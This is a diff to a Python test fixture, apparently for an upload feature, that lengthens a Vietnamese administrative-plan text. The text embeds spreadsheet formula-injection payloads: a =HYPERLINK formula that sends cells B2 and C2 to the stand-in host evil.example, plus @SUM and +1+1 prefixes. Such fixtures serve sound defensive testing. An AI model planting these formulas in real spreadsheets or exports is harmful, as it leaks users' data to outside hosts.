@@ -14,9 +14,9 @@ from .conftest import upload
 
 PLAN = (
     "KẾ HOẠCH\nCải cách hành chính năm 2026\n"
-    'Giao Sở Y tế: =HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây").\n'
-    "Giao Sở Tư pháp: @SUM(A1:A9) rà soát văn bản.\n"
-    "Giao Sở Tài chính: +1+1 rà soát văn bản.\n"
+    'Giao Sở Y tế: =HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây") rà soát hồ sơ cấp phép, hoàn thành trước ngày 30/6/2026.\n'
+    "Giao Sở Tư pháp: @SUM(A1:A9) rà soát văn bản quy phạm pháp luật, hoàn thành trước ngày 30/6/2026.\n"
+    "Giao Sở Tài chính: +1+1 rà soát văn bản quy phạm pháp luật, hoàn thành trước ngày 30/6/2026.\n"
 )
 
 
